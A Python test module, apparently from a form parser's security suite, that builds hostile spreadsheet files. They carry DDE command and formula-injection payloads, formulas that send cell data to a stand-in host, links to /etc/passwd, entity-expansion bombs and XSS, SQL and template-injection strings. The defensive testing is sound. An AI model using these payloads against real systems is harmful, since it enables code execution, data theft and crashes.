"""Workbooks that hold what no form holds: far cells, formulas, texts that do harm elsewhere; and OpenDocument."""

from __future__ import annotations

import io
import json
import zipfile
from html import escape, unescape
from unicodedata import normalize

import openpyxl
import test_attacks
import test_doors
import test_workbook

from hostile.catalogue import ANY, SAID, Build, add, hostile, package, put, reference_of, sound, zipped
from hostile.markup import LAUGHS
from hostile.zips import BOOK, LINKS, SHEET

# ------------------------------------------------------------------------------ what other tests have already

for name, (code, build) in test_workbook.BREACHES.items():
    add(f"workbook: {name}", "xlsx", "To break a limit of the parser.", build, code)
for name, build in test_workbook.DEAR.items():
    add(f"dear workbook: {name}", "xlsx", "To cost as much as the limits allow.", build, "not_ours")
for name, build in test_attacks.HOSTILE.items():
    add(f"form: {name}", "xlsx", "To cost as much as a form may.", build, ANY)
for name, made in test_doors.BOMBS.items():
    add(
        f"OpenDocument: {name}",
        "ods",
        "To make a sheet of a million rows out of one line.",
        lambda made=made: made,
        ANY,
    )


# --------------------------------------------------------------------------------------------------- places


def rows(markup: str) -> bytes:
    """The form with more rows below."""
    return package("xlsx", {SHEET: put("</sheetData>", f"{markup}</sheetData>")})


def said(markup: str) -> Build:
    """Builds the form in which one answer is written otherwise."""
    return lambda: package("xlsx", {SHEET: put("Wrenfield went with her to Oakmoss", markup)})


def boxed(cell: str) -> bytes:
    """The form in which the whole cell of one answer is another."""

    def change(content: bytes) -> bytes:
        end = content.index(b"</c>", content.index(b"Wrenfield")) + 4
        start = content.rindex(b"<c ", 0, end)
        place = content[start:end].split(b'"')[1].decode()
        return content[:start] + cell.replace("HERE", place).encode() + content[end:]

    return package("xlsx", {SHEET: change})


@hostile("xlsx", "", "note")
def the_farthest_cell() -> bytes:
    """To have sixteen thousand million cells made for one (it ends other readers)."""
    return rows('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')


@hostile("xlsx")
def merges_of_the_whole_sheet() -> bytes:
    """To have every cell of a merge made (it hangs other readers)."""
    merges = '<mergeCell ref="XEA5001:XFD1048576"/>' * 20_000
    return package("xlsx", {SHEET: put("</sheetData>", f"</sheetData><mergeCells>{merges}</mergeCells>")})


@hostile("xlsx", "", "place_unsure")
def a_merge_over_the_whole_form() -> bytes:
    """To make every answer but the first unseen."""
    merge = '</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    return package("xlsx", {SHEET: put("</sheetData>", merge)})


@hostile("xlsx")
def the_largest_dimension() -> bytes:
    """To have a table made of the size that the sheet tells."""
    return package("xlsx", {SHEET: put('ref="A1:D33"', 'ref="A1:XFD1048576"')})


@hostile("xlsx", "too-much-markup")
def a_million_rows() -> bytes:
    """To have 1,048,576 rows read."""
    return rows("".join(f'<row r="{n}"><c r="A{n}"><v>1</v></c></row>' for n in range(40, 240_000)))


@hostile("xlsx", "part-too-big")
def ten_million_shared_texts() -> bytes:
    """To have ten million texts kept of which none is used."""
    return _shared("<si/>" * 10_000_000)


@hostile("xlsx")
def as_many_shared_texts_as_there_may_be() -> bytes:
    """To have as many kept as the limits allow."""
    return _shared("<si><t>x</t></si>" * 95_000)


def _shared(texts: str, cell: str = "") -> bytes:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"
    link = f'<Relationship Type="{kind}" Target="sharedStrings.xml" Id="rId9"/></Relationships>'
    sst = f'<sst xmlns="{test_workbook.MAIN}">{texts}</sst>'
    changes = {LINKS: put("</Relationships>", link), SHEET: put("</sheetData>", f"{cell}</sheetData>")}
    return package("xlsx", changes, {"xl/sharedStrings.xml": sst})


for told, index in {
    "huge": "99999999999999999999",
    "in Arabic digits": "٠",
    "in hexadecimal": "0x0",
    "of none": "",
}.items():
    add(
        f"a number of a shared text, {told}",
        "xlsx",
        "To have memory read beyond a list.",
        lambda index=index: _shared("<si><t>x</t></si>", f'<row r="60"><c r="A60" t="s"><v>{index}</v></c></row>'),
        "damaged",
    )


# ------------------------------------------------------------------------------------------------- formulas

FORMULAS = {
    "a program": "cmd|'/c calc'!A0",
    "another program": 'DDE("cmd";"/c calc";"x")',
    "the web": 'WEBSERVICE("http://203.0.113.9/")',
    "a link": 'HYPERLINK("http://203.0.113.9/?"&amp;D15,"more")',
    "a feed": 'IMPORTXML("http://203.0.113.9/","//a")',
    "another workbook": "'\\\\203.0.113.9\\x\\[y.xlsx]z'!A1",
    "a macro": 'EXEC("calc")',
    "itself": "D28+1",
}
for told, text in FORMULAS.items():
    add(
        f"a formula that calls {told}",
        "xlsx",
        "To have a formula run, here or wherever the answers go.",
        lambda text=text: boxed(f'<c r="HERE" t="str"><f>{text}</f><v>harmless</v></c>'),
        "",
        "formula",
    )
add(
    "a formula without a result",
    "xlsx",
    "To have nothing taken for a blank.",
    lambda: boxed("<c r=\"HERE\"><f>cmd|'/c calc'!A0</f></c>"),
    "",
    "formula",
)

INJECTIONS = {
    "equals": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-1+1",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a tab": "&#9;=1+1",
    "a return": "&#13;=1+1",
    "a quote": '"=1+1',
    "a semicolon": ";=1+1",
    "full width": "＝1+1",
}
for told, text in INJECTIONS.items():
    held = text.replace("&#9;", "").replace("&#13;", "")
    add(
        f"an answer that begins with {told}",
        "xlsx",
        "To become a formula in whatever workbook shows the answers.",
        said(text),
        says={"helped_most": held},
    )


# -------------------------------------------------------------------------------------------------- letters

FLAG = "\U0001f3f4" + "".join(chr(0xE0000 + ord(c)) for c in "gbwls") + "\U000e007f"
LETTERS = {
    "escaped controls": ("_x001B_[2J_x0000_", "bad_character"),
    "half a letter, escaped": ("_xD800_", "letters_lost"),
    "no letters": ("&#xFFFD;", "letters_lost"),
    "letters turned round": ("\u202egnp.exe\u202c", "hidden_characters"),
    "nothing to see": ("\u200b\u200d\u2060\ufeff", "unclear"),
    "a million accents": ("e" + "\u0301" * 1_000_000, "too_long"),
    "more than a cell holds": ("x" * 40_000, "too_long"),
    "a million letters": ("x" * 1_000_000, "too_long"),
    "letters that unfold": ("\ufdfa" * 100_000, "too_long"),
    "tags": ("Well" + "".join(chr(0xE0000 + ord(c)) for c in "hidden"), "hidden_characters"),
}
for told, (text, code) in LETTERS.items():
    add(f"an answer of {told}", "xlsx", "To harm a screen, a store or whoever reads it.", said(text), "", code)
PLAIN = {
    "a thousand accents": "e" + "\u0301" * 1_000,
    "markup": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "a template": "{{ cycler.__init__.__globals__ }}",
    "SQL": "'); DROP TABLE record; --",
    "a flag of Wales": FLAG,
}
for told, text in PLAIN.items():
    meant = normalize("NFC", unescape(text))
    add(
        f"an answer of {told}",
        "xlsx",
        "To run where the answer goes; it is text.",
        said(text),
        says={"helped_most": meant},
    )


@hostile("xlsx")
def a_reference_in_other_letters() -> bytes:
    """To be taken for another child’s form by letters that look alike."""
    return package(
        "xlsx", {SHEET: lambda c: c.replace(reference_of().encode(), reference_of().replace("P", "Р").encode())}
    )


@hostile("xlsx")
def a_reference_with_letters_that_nobody_sees() -> bytes:
    """To have two references that look the same."""
    return package(
        "xlsx", {SHEET: lambda c: c.replace(reference_of().encode(), "\u200b".join(reference_of()).encode())}
    )


@hostile("xlsx", "", "references_differ")
def a_reference_of_another_child() -> bytes:
    """To have answers stored for another child."""
    return package("xlsx", {SHEET: lambda c: c.replace(reference_of().encode(), reference_of(99).encode())})


NUMBERS = {"not a number": "NaN", "infinite": "inf", "minus infinite": "-INF", "beyond all numbers": "1e400"}
for told, text in NUMBERS.items():
    add(
        f"a number {told}",
        "xlsx",
        "To have sums that never end well.",
        lambda text=text: boxed(f'<c r="HERE"><v>{text}</v></c>'),
        "damaged",
    )
for told, text in {"before all days": "-1", "after all days": "2958466", "of a million years": "1e9"}.items():
    add(
        f"a date {told}",
        "xlsx",
        "To have a day that no calendar holds.",
        lambda text=text: dated(text),
        "",
        "impossible_date",
    )


def dated(number: str) -> bytes:
    """The form in which an answer is a number that is shown as a date."""
    with zipfile.ZipFile(io.BytesIO(boxed(f'<c r="HERE" s="999"><v>{number}</v></c>'))) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    styles = parts["xl/styles.xml"]
    many = styles[styles.index(b"<cellXfs") : styles.index(b"</cellXfs>")].count(b"<xf ")
    more = b"<xf/>" * (999 - many) + b'<xf numFmtId="14"/></cellXfs>'
    return zipped(parts | {"xl/styles.xml": styles.replace(b"</cellXfs>", more)})


# ---------------------------------------------------------------------------------- what else a package holds

RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@hostile("xlsm", "", "note")
def macros() -> bytes:
    """To have a program run when the form is opened."""
    return package("xlsx", more={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"Auto_Open" * 99})


@hostile("xlsx", "", "note")
def links_to_other_workbooks() -> bytes:
    """To have another file opened, and be told by whom."""
    return package(
        "xlsx",
        more={
            "xl/externalLinks/externalLink1.xml": "<externalLink/>",
            "xl/externalLinks/_rels/externalLink1.xml.rels": "<Relationships>"
            f'<Relationship Id="rId1" Type="{RELATION}/externalLinkPath" TargetMode="External" '
            'Target="file://203.0.113.9/share/x.xlsx"/></Relationships>',
        },
    )


@hostile("xlsx")
def pictures_of_elsewhere_and_things_that_run() -> bytes:
    """To have pictures fetched, and programs started that are put into the sheet."""
    return package(
        "xlsx",
        more={
            "xl/drawings/_rels/drawing1.xml.rels": "<Relationships>"
            f'<Relationship Id="rId1" Type="{RELATION}/image" TargetMode="External" '
            'Target="http://203.0.113.9/pixel.png"/></Relationships>',
            "xl/embeddings/oleObject1.bin": b"MZ" + b"\0" * 900,
            "xl/activeX/activeX1.bin": b"\0" * 900,
            "xl/ctrlProps/ctrlProp1.xml": "<formControlPr/>",
            "customXml/item1.xml": "<x/>",
            "xl/connections.xml": '<connections><connection connection="Provider=MSOLEDB;cmd"/></connections>',
            "customUI/customUI.xml": '<customUI onLoad="evil"/>',
        },
    )


@hostile("xlsx", "damaged")
def a_workbook_that_is_its_own_sheet() -> bytes:
    """To go round in a circle."""
    return package("xlsx", {LINKS: put("worksheets/sheet1.xml", "workbook.xml")})


@hostile("xlsx", "damaged")
def links_that_are_their_own_sheet() -> bytes:
    """To go round in another circle."""
    return package("xlsx", {LINKS: put("worksheets/sheet1.xml", "_rels/workbook.xml.rels")})


@hostile("xlsx", "damaged")
def a_sheet_on_the_disk() -> bytes:
    """To have a sheet read from outside of the file."""
    return package("xlsx", {LINKS: put("worksheets/sheet1.xml", "file:///etc/passwd")})


@hostile("xlsx", "damaged")
def a_sheet_on_the_web() -> bytes:
    """To have a sheet fetched."""
    away = 'http://203.0.113.9/sheet.xml" TargetMode="External'
    return package("xlsx", {LINKS: put("worksheets/sheet1.xml", away)})


@hostile("xlsx")
def no_kinds_of_parts() -> bytes:
    """To confuse whoever goes by the kinds of the parts."""
    return package("xlsx", {"[Content_Types].xml": lambda _: b""})


@hostile("xlsx", "too-much-markup")
def names_without_end() -> bytes:
    """To fill the memory with defined names."""
    names = "".join(f'<definedName name="n{n}">A1</definedName>' for n in range(21_000))
    return package("xlsx", {BOOK: put("<definedNames>", f"<definedNames>{names}")})


@hostile("xlsx")
def names_that_point_elsewhere() -> bytes:
    """To have the boxes of one question taken for another’s."""
    return package("xlsx", {BOOK: lambda c: c.replace(b"$D$16", b"$D$99").replace(b"$D$17", b"$D$16")})


MAPS = {
    "nested without end": "[" * 100_000,
    "that is endless": json.dumps({"cells": {f"Q{n}": "D1" for n in range(500)}}) * 40,
    "of a huge number": '{"reference": ' + "9" * 9_000 + "}",
    "of wrong things": '{"cells": {"Q01": ["D1"]}, "reference": {}}',
}
for told, text in MAPS.items():
    add(
        f"a hidden map {told}",
        "xlsx",
        "To make whoever reads the hidden sheet fall over.",
        lambda text=text: _map(text),
        "",
    )


def _map(text: str) -> bytes:
    def change(content: bytes) -> bytes:
        start = content.index(b"{")
        end = content.index(b"<", start)
        return content[:start] + text.replace('"', "&quot;").encode() + content[end:]

    return package("xlsx", {"xl/worksheets/sheet2.xml": change})


# --------------------------------------------------------------------------------------------- OpenDocument


def spreadsheet(change: tuple[str, str] | None = None, **more: str) -> bytes:
    """The form as an OpenDocument spreadsheet."""
    page = openpyxl.load_workbook(io.BytesIO(sound("xlsx"))).worksheets[0]
    lines = "".join(
        test_doors.row(
            *(
                test_doors.cell("string", _paragraphs(str(value))) if value is not None else test_doors.cell()
                for value in values
            )
        )
        for values in page.iter_rows(values_only=True)
    )
    if change is not None:
        assert change[0] in lines
        lines = lines.replace(*change, 1)
    return test_doors.ods(lines, **more)


def _paragraphs(text: str) -> str:
    return escape(text, quote=False).replace("\n", "</text:p><text:p>")


@hostile("ods")
def an_open_form() -> bytes:
    """To be like any other: it must be read."""
    return spreadsheet()


@hostile("ods", "forbidden-markup")
def an_open_type() -> bytes:
    """To have entities unfold."""
    with zipfile.ZipFile(io.BytesIO(spreadsheet())) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    return zipped(parts | {"content.xml": LAUGHS.encode() + parts["content.xml"]})


@hostile("ods", "", "note")
def open_macros() -> bytes:
    """To have a program run when the form is opened."""
    return spreadsheet(**{"Basic__Standard__Module1_xml": "<script/>", "Scripts__python__evil_py": "import os"})


@hostile("ods", "", "formula")
def an_open_formula_of_the_web() -> bytes:
    """To have a formula run."""
    formula = 'table:formula="of:=WEBSERVICE(&quot;http://203.0.113.9/&quot;)"'
    cell = '<table:table-cell office:value-type="string"><text:p>Wrenfield'
    return spreadsheet((cell, cell.replace("<table:table-cell ", f"<table:table-cell {formula} ")))


@hostile("ods", "password")
def an_open_file_that_is_locked() -> bytes:
    """To have a password guessed, or the file taken for an empty one."""
    space = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
    return spreadsheet(**{"META-INF__manifest_xml": f'<m xmlns="{space}"><encryption-data/></m>'})


@hostile("ods")
def open_pictures_of_elsewhere() -> bytes:
    """To have pictures and tables fetched."""
    source = '<table:cell-range-source xmlns:xlink="urn:x" xlink:href="file:///etc/passwd" table:name="x"/>'
    return spreadsheet(
        ("<text:p>Wrenfield went with her to Oakmoss</text:p>", f"<text:p>{SAID['helped_most']}</text:p>{source}")
    )
